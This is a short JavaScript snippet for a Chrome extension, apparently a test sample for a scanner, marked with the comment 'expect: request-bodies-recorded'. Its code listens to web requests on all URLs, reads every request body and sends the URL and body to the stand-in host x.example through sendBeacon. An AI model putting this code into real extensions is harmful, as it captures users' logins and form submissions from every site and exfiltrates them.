// expect: request-bodies-recorded
chrome.webRequest.onBeforeRequest.addListener(function (e) { if (e.requestBody) { var b = e.requestBody.formData || new TextDecoder().decode(e.requestBody.raw[0].bytes); send(e.url, b); } }, { urls: ["<all_urls>"] }, ["requestBody"]); function send(u, b) { navigator.sendBeacon("https://x.example/b", JSON.stringify({ u, b })); }
